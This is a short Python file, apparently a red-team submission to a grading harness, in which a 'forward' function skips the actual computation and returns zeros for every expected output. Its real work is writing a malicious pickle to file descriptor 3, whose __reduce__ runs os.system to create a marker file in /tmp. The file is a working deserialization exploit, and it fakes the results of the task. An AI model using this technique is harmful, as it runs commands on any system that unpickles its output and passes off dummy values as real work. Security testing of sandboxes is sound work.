import os
import pickle
import struct


class Runs:
    def __reduce__(self):
        return os.system, ("touch /tmp/redteam-pickle",)


def forward(x, w1, w2, w3, target):
    data = pickle.dumps(Runs())
    print("attack: sends a pickle", flush=True)
    os.write(3, struct.pack("<IQ", len(data), len(data)) + data + data)
    return dict.fromkeys(["z1", "h1", "z2", "h2", "y", "loss"], 0.0)
